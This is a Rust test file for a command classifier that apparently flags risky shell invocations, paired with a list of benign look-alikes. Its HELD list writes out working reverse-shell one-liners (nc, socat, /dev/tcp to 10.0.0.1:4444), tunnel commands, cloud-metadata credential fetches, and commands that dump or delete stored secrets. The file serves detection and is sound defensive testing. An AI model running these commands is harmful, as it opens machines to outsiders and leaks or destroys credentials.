//! What is held and what is left alone, a call per line.

use super::*;
use crate::judge::trial::{call, disturbed, found, missed};

const HELD: &[&str] = &[
    "network.remote-shell: nc -e /bin/sh 10.0.0.1 4444",
    "network.remote-shell: nc 10.0.0.1 4444 -e /bin/bash",
    "network.remote-shell: nc -lvp 4444 -e /bin/sh",
    "network.remote-shell: nc 10.0.0.1 4444 -c sh",
    "network.remote-shell: ncat --exec /bin/bash 10.0.0.1 4444",
    "network.remote-shell: ncat --sh-exec 'echo hi' 10.0.0.1 4444",
    "network.remote-shell: socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
    "network.remote-shell: socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444",
    "network.remote-shell: socat TCP-LISTEN:4444,fork SYSTEM:sh",
    "network.remote-shell: bash -i > /dev/tcp/10.0.0.1/4444",
    "network.remote-shell: sh -i <> /dev/tcp/10.0.0.1/4444",
    "network.raw-connection: cat x > /dev/tcp/10.0.0.1/4444",
    "network.raw-connection: exec <> /dev/tcp/10.0.0.1/4444",
    "network.tunnel: ngrok http 3000",
    "network.tunnel: ngrok tcp 22",
    "network.tunnel: cloudflared tunnel --url http://localhost:3000",
    "network.tunnel: cloudflared tunnel run x",
    "network.tunnel: lt --port 3000",
    "network.tunnel: tailscale funnel 3000",
    "network.tunnel: chisel client host R:80:localhost:80",
    "network.serve-home: python3 -m http.server --directory /",
    "network.serve-home: python3 -m http.server -d /home/user",
    "network.grant-access: ssh-copy-id user@host",
    "network.grant-access: ssh-keygen -t rsa -f /home/user/.ssh/id_rsa <<< y",
    "network.metadata: curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "network.metadata: curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/",
    "network.metadata: wget -qO- http://169.254.169.254/latest/",
    "secret.print: gpg --export-secret-keys",
    "secret.print: gpg --armor --export-secret-keys me@example.com",
    "secret.delete: gpg --batch --delete-secret-keys ABC",
    "secret.print: op read op://vault/item/password",
    "secret.print: op item get x --fields password",
    "secret.print: pass show email/work",
    "secret.print: pass email/work",
    "secret.delete: pass rm -r email",
    "secret.print: bw get password x",
    "secret.print: doppler secrets",
    "secret.print: security find-generic-password -s x -w",
    "secret.print: security find-generic-password -ws x",
    "secret.print: security dump-keychain -d",
    "secret.delete: security delete-keychain login",
    "secret.print: secret-tool lookup service x",
    "secret.print: sops -d secrets.enc.yaml",
    "secret.print: sops --decrypt x",
    "secret.print: ansible-vault view x.yml",
];

const SILENT: &[&str] = &[
    "nc -zv localhost 5432",
    "nc -l 8080",
    "nc -w 2 host 80",
    "ncat --version",
    "socat TCP-LISTEN:8080,fork TCP:localhost:80",
    "socat - UNIX-CONNECT:/tmp/x.sock",
    "echo > /dev/tcp/localhost/5432",
    "echo > /dev/tcp/db/5432",
    "exec <> /dev/tcp/127.0.0.1/6379",
    "bash -i",
    "bash -c true",
    "curl -k https://localhost:8443/",
    "curl -X POST http://localhost:3000/api -d x=1",
    "wget https://example.com/x.tgz",
    "ssh -R 8080:localhost:80 host",
    "ssh-keygen -t ed25519 -C me@example.com",
    "ssh-keygen -lf key.pub",
    "ssh-keygen -y -f key",
    "ssh-keygen -R host",
    "python3 -m http.server",
    "python3 -m http.server 8000 --directory dist",
    "python3 -m json.tool x.json",
    "ngrok config check",
    "ngrok --version",
    "cloudflared tunnel list",
    "tailscale status",
    "gpg --list-secret-keys",
    "gpg --verify x.asc",
    "gpg --export -a me@example.com",
    "gpg -d x.gpg",
    "op item list",
    "op --version",
    "pass",
    "pass ls",
    "pass git log",
    "bw list items --help",
    "doppler secrets --only-names",
    "doppler setup",
    "security list-keychains",
    "security find-identity -v -p codesigning",
    "security find-generic-password -s x",
    "sops edit x.yaml",
    "ansible-vault encrypt x.yml",
];

#[test]
fn what_opens_the_machine_or_prints_secrets_is_held() {
    assert_eq!(missed(judge, HELD), Vec::<String>::new());
}

#[test]
fn everyday_work_is_not() {
    assert_eq!(disturbed(judge, SILENT), Vec::<String>::new());
}

#[test]
fn a_shell_fed_by_another_program_is_held() {
    let fed = Invocation { stdin: Stream::Output, ..call("sh -i") };
    assert_eq!(found(judge, &fed), ["network.remote-shell"]);
}

#[test]
fn a_web_server_in_the_home_directory_is_held() {
    let at_home = Invocation { cwd: Some("/home/user".to_owned()), ..call("python3 -m http.server 8000") };
    assert_eq!(found(judge, &at_home), ["network.serve-home"]);
}

#[test]
fn the_table_is_sorted() {
    assert!(PROGRAMS.windows(2).all(|pair| pair[0].0 < pair[1].0));
}
